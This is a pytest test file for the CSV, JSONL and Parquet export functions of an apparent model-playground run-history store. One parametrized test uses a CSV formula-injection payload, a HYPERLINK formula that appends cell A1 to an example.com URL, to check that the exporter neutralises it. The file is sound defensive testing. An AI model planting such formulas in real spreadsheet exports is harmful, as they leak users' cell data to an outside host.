"""Exports: what a spreadsheet gets and what a program gets."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bedrock_playground.history import (
    CSV_COLUMNS,
    Contender,
    RunRecord,
    RunStore,
    Verdict,
    decide,
    to_csv,
    to_jsonl,
)
from bedrock_playground.history.parquet import _READ, PARQUET_COLUMNS, to_parquet
from bedrock_playground.invocation.serialization import request_from_json, result_from_json
from bedrock_playground.invocation.values import RunState
from tests.store.builders import NOON, record


@pytest.fixture
def store(tmp_path: Path) -> Iterator[RunStore]:
    with RunStore.open(f"sqlite:///{tmp_path / 'history.sqlite3'}", data_dir=tmp_path) as opened:
        yield opened


def _csv(store: RunStore, *records: RunRecord) -> list[dict[str, str]]:
    store.add(records)
    return list(csv.DictReader(io.StringIO("".join(to_csv(store.export_rows())), newline="")))


def test_the_csv_says_what_was_asked_and_answered(store: RunStore) -> None:
    row = _csv(store, record(prompt='He said "a, b"\nand left', cost=Decimal("0.0000001"), tags=("x", "y")))[
        0
    ]
    assert tuple(row) == CSV_COLUMNS
    assert row["prompt"] == 'He said "a, b"\nand left'
    assert row["answer"] == "Because of Rayleigh scattering."
    assert (row["system"], row["max_tokens"], row["temperature"], row["top_p"]) == (
        "Be brief.",
        "64",
        "0.5",
        "",
    )
    assert (row["started_at"], row["state"]) == (NOON.isoformat(), "completed")
    assert (row["input_tokens"], row["output_tokens"], row["reasoning_tokens"]) == ("12", "21", "")
    assert (row["time_to_first_token_s"], row["total_s"], row["tokens_per_second"]) == (
        "0.25",
        "1.25",
        "20.0",
    )
    assert (row["cost_usd"], row["price_source"]) == ("0.0000001", "")
    assert (json.loads(row["tags"]), json.loads(row["stop_sequences"])) == (["x", "y"], ["END"])


def test_votes_stand_beside_the_run_and_nothing_stands_where_nobody_voted(store: RunStore) -> None:
    runs = [record(number, identity_changes={"label": label}) for number, label in enumerate("ABC")]
    contenders = [Contender(run.run_id, run.identity.label, "m") for run in runs[:2]]
    for user, blind in (("Ada", True), ("Bob", False)):
        vote = decide(
            contenders,
            Verdict.BEST if blind else Verdict.TIE,
            best="A" if blind else None,
            comparison_id="comparison",
            turn=0,
            blind=blind,
            user=user,
        )
        store.votes.record(vote)
    rows = {row["label"]: row for row in _csv(store, *runs)}
    assert [(rows[label]["votes"], rows[label]["blind_votes"]) for label in "ABC"] == [
        ("won, tied", "1"),
        ("lost, tied", "1"),
        ("", ""),
    ]
    assert [row["blind_votes"] for row in store.export_rows()] == [None, 1, 1]


def test_unknown_is_empty_never_zero(store: RunStore) -> None:
    row = _csv(store, record(state=RunState.INTERRUPTED))[0]
    for name in (
        "answer",
        "input_tokens",
        "total_s",
        "cost_usd",
        "attempts",
        "ended_at",
        "error_type",
        "tags",
    ):
        assert row[name] == "", name


def test_an_error_is_told(store: RunStore) -> None:
    row = _csv(store, record(state=RunState.CANCELLED))[0]
    assert (row["state"], row["error_type"], row["answer"]) == ("cancelled", "Cancelled", "Because")
    assert row["error_message"] == "Somebody pressed Stop."


def test_an_empty_export_still_has_its_head() -> None:
    assert list(csv.reader(to_csv([]))) == [list(CSV_COLUMNS)]
    assert list(to_jsonl([])) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_formula_becomes_text_in_the_csv_and_stays_in_the_jsonl(store: RunStore, start: str) -> None:
    formula = start + 'HYPERLINK("http://example.com?"&A1)'
    row = _csv(store, record(prompt=formula, answer=formula, model_id=formula, user=formula))[0]
    assert [row[name] for name in ("prompt", "answer", "model_id", "user")] == ["'" + formula] * 4
    line = json.loads("".join(to_jsonl(store.export_rows())))
    assert (line["prompt"], line["answer"]) == (formula, formula)


def test_numbers_are_not_taken_for_formulas() -> None:
    row = {"total_s": -1.5, "turn": -1, "prompt": "-1.5"}
    (cells,) = csv.DictReader(to_csv([row]))
    assert (cells["total_s"], cells["turn"], cells["prompt"]) == ("-1.5", "-1", "'-1.5")


@given(value=st.text() | st.text(alphabet="=+-@\t\r\n\x00 '\",", min_size=1))
def test_no_cell_ever_starts_a_formula_and_every_text_can_be_written(value: str) -> None:
    text = "".join(to_csv([{"prompt": value}]))
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert not row["prompt"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert row["prompt"].lstrip("'") == value.replace("\x00", "").lstrip("'")
    text.encode("utf-8")


def test_the_jsonl_is_complete(store: RunStore) -> None:
    given_records = [record(2, cost=Decimal("1.50")), record(1), record(0, state=RunState.INTERRUPTED)]
    store.add(given_records)
    lines: list[dict[str, Any]] = [json.loads(line) for line in to_jsonl(store.export_rows())]
    assert len(lines) == 3
    for line, original in zip(lines, given_records, strict=True):
        assert set(CSV_COLUMNS) <= set(line)
        assert request_from_json(line["request"]) == original.request
        assert line["run_id"] == original.run_id
    assert result_from_json(lines[0]["result"]) == given_records[0].result
    assert (lines[0]["cost_usd"], lines[1]["cost_usd"], lines[2]["result"]) == ("1.5", None, None)


def test_parquet_keeps_types_and_says_what_the_csv_says(store: RunStore) -> None:
    from pyarrow import parquet

    made = [
        record(0, cost=Decimal("0.000000000001"), identity_changes={"run_id": "a"}),
        record(1, cost=None, identity_changes={"run_id": "b"}),
    ]
    store.add(made)
    told = {row["run_id"]: row for row in store.export_rows()}
    table = parquet.read_table(io.BytesIO(to_parquet(store.export_rows())))
    assert table.column_names == list(PARQUET_COLUMNS)
    rows = {row["run_id"]: row for row in table.to_pylist()}
    assert rows["a"]["cost_usd"] == Decimal("0.000000000001")
    assert rows["b"]["cost_usd"] is None
    assert rows["a"]["started_at"].isoformat() == told["a"]["started_at"]
    assert rows["a"]["output_tokens"] == told["a"]["output_tokens"]
    assert rows["a"]["answer"] == told["a"]["answer"]
    assert json.loads(rows["a"]["request"]) == told["a"]["request"]
    assert json.loads(rows["a"]["result"]) == told["a"]["result"]


def test_parquet_of_nothing_has_its_columns(store: RunStore) -> None:
    from pyarrow import parquet

    assert parquet.read_table(io.BytesIO(to_parquet(store.export_rows()))).num_rows == 0


def test_every_column_has_its_kind_in_parquet() -> None:
    assert set(_READ) <= set(CSV_COLUMNS)
